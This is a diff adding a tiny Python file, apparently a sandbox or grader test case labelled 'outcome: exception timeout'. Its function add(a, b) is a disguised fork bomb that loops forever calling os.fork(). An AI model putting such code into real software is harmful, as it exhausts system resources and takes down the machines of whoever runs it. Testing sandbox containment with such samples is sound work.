@@ -1,0 +1,7 @@
+# outcome: exception timeout
+import os
+
+
+def add(a, b):
+    while True:
+        os.fork()
